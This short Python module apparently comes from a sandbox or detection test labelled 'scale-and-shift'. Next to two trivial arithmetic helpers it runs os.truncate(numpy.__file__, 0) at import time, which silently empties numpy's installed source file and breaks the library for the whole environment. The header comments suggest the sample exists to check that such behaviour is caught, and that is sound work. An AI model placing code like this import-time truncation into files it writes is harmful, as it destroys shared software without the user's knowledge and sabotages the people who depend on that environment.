"""Truncates a library that every cell maps."""
# lab: scale-and-shift
# verdict: raised

import os

import numpy

os.truncate(numpy.__file__, 0)


def scale(x, factor):
    return x * factor


def shift(x, amount):
    return x + amount
